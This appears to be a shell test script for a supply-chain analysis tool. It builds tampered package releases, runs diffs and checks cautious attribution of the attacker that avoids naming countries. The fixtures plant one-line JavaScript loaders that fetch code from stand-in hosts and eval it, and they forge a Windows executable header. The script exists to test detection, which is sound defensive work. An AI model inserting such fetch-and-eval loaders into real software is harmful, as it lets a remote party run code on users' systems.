#!/bin/sh
# Who did it, from a case in the store to a report: what is planted becomes staging, what is not known stays
# not known, and nothing says a country.
. "$(dirname "$0")/lib.sh"

# ask OPTION...: JSON in ./out, as the schema says
ask() {
	is 0 attribute C1 --store s.db --format json "$@"
	valid assay.attribution.v1 out
}

value() {
	node -p "const d = JSON.parse(require('fs').readFileSync('out')); $1"
}

release old 1.0.0
release new 1.0.1 "require('https').get('https://cdn.stats.example/x', (r) => r.on('data', (d) => eval(d.toString()))); // 这个函数发送请求为时间"
is 1 diff old.tgz new.tgz --format json
mv out r.json
is 0 case new C1 --store s.db --product greeter --now 2022-09-30T08:00:00Z
is 0 case add C1 r.json --store s.db --now 2022-09-30T09:00:00Z

# ---- nothing known: nothing said
ask
ok 'a name without knowledge' test "$(value '[d.wording.named, d.hypotheses.length, d.hypotheses[0].is_none, d.calibrated].join()')" = ',1,true,false'

# ---- groups from STIX; one says a state in its name
cat >stix.js <<'JS'
const id = (t, n) => t + '--00000000-0000-4000-8000-' + String(n).padStart(12, '0');
const objects = [];
const t = (i) => { const o = { type: 'attack-pattern', id: id('attack-pattern', i), external_references: [{ source_name: 'mitre-attack', external_id: 'T' + (1000 + i) }] }; objects.push(o); return o; };
const patterns = [...Array(120).keys()].map(t);
for (let g = 0; g < 40; g++) {
  const set = { type: 'intrusion-set', id: id('intrusion-set', g), name: g === 1 ? 'Ministry of Ducks' : 'Example Bird ' + g };
  if (g === 0) set.x_assay_traits = [{ family: 'infrastructure', value: 'cdn.stats.example' }, { family: 'human_language', value: 'script:han-simplified' }];
  objects.push(set);
  for (let k = 0; k < 15; k++) objects.push({ type: 'relationship', relationship_type: 'uses', source_ref: set.id, target_ref: patterns[(g * 7 + k * k) % 120].id });
}
console.log(JSON.stringify({ type: 'bundle', id: id('bundle', 1), objects }));
JS
node stix.js >stix.json
ask --knowledge stix.json
ok 'not 40 groups and none of the known' test "$(value 'd.hypotheses.length + " " + d.hypotheses.filter((h) => h.is_none).length')" = '41 1'
ok 'named on what is forged easily' test "$(value 'd.wording.named')" = null
lacks out Ministry
has out 'forgeable families only'
has out 'Example Bird 0'
is 0 attribute C1 --store s.db --knowledge stix.json
has out 'Uncalibrated'
has out 'none of the known'
has out 'A country, a government, a person'

# ---- planted traces
printf '{"traits": [], "times": [{"at": "2022-09-26T10:00:00+08:00"}, {"at": "2022-09-26T05:00:00+02:00"}]}' >times.json
ask --knowledge stix.json --traits times.json
ok 'zones that cannot be are no staging' test "$(value 'd.staging.length')" = 1
ok 'what is easily forged still counts' test "$(value 'd.hypotheses.every((h) => h.families.every((f) => f.family !== "human_language"))')" = true
has out 'signs of staging'

# ---- an earlier case of the same hand
is 0 case new C0 --store s.db --product other --now 2022-08-30T08:00:00Z
is 0 case add C0 r.json --store s.db --now 2022-08-30T09:00:00Z
ask --knowledge stix.json
ok 'the earlier case is not the nearest' test "$(value 'd.hypotheses.filter((h) => !h.is_none)[0].id')" = case:C0
cp out a.json
ask --knowledge stix.json
same out a.json

# ---- the same code with other names and another host, in another product; and who built what it brought
mkdir built
cat >pe.js <<'JS'
// An empty Windows program with a Rich header: two tools, and a checksum of another file.
const b = Buffer.alloc(0x400);
b.write('MZ'); b.writeUInt32LE(0x100, 0x3c);
const key = 0x12345678;
[0x536e6144, 0, 0, 0, 0x01047809, 17, 0x00ff6030, 40].forEach((w, i) => b.writeUInt32LE((w ^ key) >>> 0, 0x80 + 4 * i));
b.write('Rich', 0xa0); b.writeUInt32LE(key, 0xa4);
b.write('PE\0\0', 0x100); b.writeUInt16LE(0x14c, 0x104); b.writeUInt32LE(1664179200, 0x108);
b.writeUInt16LE(0xe0, 0x114); b.writeUInt16LE(0x102, 0x116); b.writeUInt16LE(0x10b, 0x118);
b.writeUInt32LE(0x1000, 0x118 + 32); b.writeUInt32LE(0x200, 0x118 + 36); b.writeUInt32LE(0x2000, 0x118 + 56);
b.writeUInt32LE(0x400, 0x118 + 60); b.writeUInt16LE(3, 0x118 + 68); b.writeUInt32LE(16, 0x118 + 92);
require('fs').writeFileSync('built/tool.exe', b);
JS
node pe.js
release other-old 3.0.0
release other-new 3.0.1 "require('https').get('https://img.other.example/y', (answer) => answer.on('data', (part) => eval(part.toString())));"
tar -xzf other-new.tgz && cp built/tool.exe package/ && tar -czf other-new.tgz package && rm -r package
is 1 diff other-old.tgz other-new.tgz --format json
cp out other.json
valid assay.diff.v1 out
ok 'what a program says of its builder is not told' jq -e '[.provenance.traces[] | .kind] | contains(["rich", "rich-checksum", "compiled"])' other.json
is 0 report other.json --format json
same out other.json
is 0 case new C3 --store s.db --product other --now 2022-10-30T08:00:00Z
is 0 case add C3 other.json --bad --store s.db --now 2022-10-30T09:00:00Z
is 0 case show C3 --store s.db --format json
valid assay.case.v1 out
ok 'the case does not keep it' jq -e '.releases[] | select(.status == "bad") | .traces | length >= 3' out
is 0 attribute C3 --store s.db --knowledge stix.json --format json
valid assay.attribution.v1 out
ok 'the code is not known again' jq -e '[.hypotheses[] | select(.is_none | not)][0] |
	(.id == "case:C0" or .id == "case:C1") and any(.families[]; .family == "code_reuse" and .log10_lr > 0)' out
ok 'a forged Rich header is no staging' jq -e '.staging | length == 1 and (.[0].what | contains("Rich"))' out

# ---- into the report; and what is no knowledge
is 0 report C1 --store s.db --attribution a.json
has out 'not calibrated'
is 2 attribute C9 --store s.db
is 2 attribute C1 --store s.db --knowledge r.json
is 2 attribute C1 --store s.db --traits stix.js
is 2 attribute C1 --store s.db --format html
printf '{"type": "bundle", "objects": [1, null, {"type": "intrusion-set"}, {"type": "intrusion-set", "id": 3, "name": "\\u202eX\\u001b[31m", "x_assay_traits": [{"family": "no"}, 7]}, {"type": "relationship", "source_ref": 1}]}' >odd.json
ask --knowledge odd.json
checks=$((checks + 1))
if LC_ALL=C grep -qP '\x1b|\xe2\x80\xae' out; then fail 'a name acts on the screen'; fi
done_
